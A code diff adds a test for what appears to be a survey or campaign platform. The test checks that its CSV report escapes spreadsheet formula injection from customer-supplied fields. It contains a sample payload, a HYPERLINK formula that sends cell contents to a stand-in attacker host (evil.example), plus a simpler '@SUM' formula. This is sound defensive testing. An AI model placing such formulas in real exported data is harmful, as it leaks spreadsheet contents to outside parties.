@@ -166,3 +166,22 @@ async def test_report_of_10000_journeys_streams_in_bounded_memory(tenant, app, s
     # buffers move the peak by a few hundred kilobytes from run to run.
     assert big_size - small_size > 2_000_000
     assert big_peak - small_peak < (big_size - small_size) / 2, (small_peak, big_peak)
+
+
+async def test_what_a_customer_typed_cannot_run_as_a_formula(tenant, sessions):
+    """A personal link's holder controls the user agent the report shows: in the client's
+    spreadsheet it is text, not a formula that sends the sheet away."""
+    campaign = await tenant.create_campaign(languages=["en"])
+    await insert_collected_journeys(sessions, tenant, campaign["id"], 1)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    async with transaction(sessions) as session:
+        await session.execute(text(
+            "UPDATE journeys SET collected = jsonb_set(collected::jsonb, '{user_agent}', "
+            "to_jsonb(CAST(:ua AS text)))::json WHERE campaign_id = CAST(:c AS uuid)"),
+            {"ua": formula, "c": campaign["id"]})
+        await session.execute(text(
+            "UPDATE contacts SET last_name = '@SUM(1+1)' WHERE id IN (SELECT contact_id FROM "
+            "journeys WHERE campaign_id = CAST(:c AS uuid))"), {"c": campaign["id"]})
+    report = (await tenant.get(f"/v1/campaigns/{campaign['id']}/report.csv")).text
+    [row] = csv.DictReader(io.StringIO(report))
+    assert (row["user_agent"], row["last_name"]) == ("'" + formula, "'@SUM(1+1)")
